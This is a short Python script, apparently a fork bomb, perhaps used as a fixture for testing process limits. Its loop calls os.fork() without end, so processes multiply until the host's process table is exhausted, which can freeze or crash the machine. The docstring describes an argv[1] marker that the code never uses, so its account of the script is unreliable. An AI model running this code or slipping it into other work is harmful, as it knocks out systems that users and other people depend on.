"""Every process forks for ever; the first fork the kernel refuses ends the original one with an
error. argv[1]: a marker that names every process of the bomb in the host's process list."""
import os
import time

while True:
    os.fork()
    time.sleep(0.001)
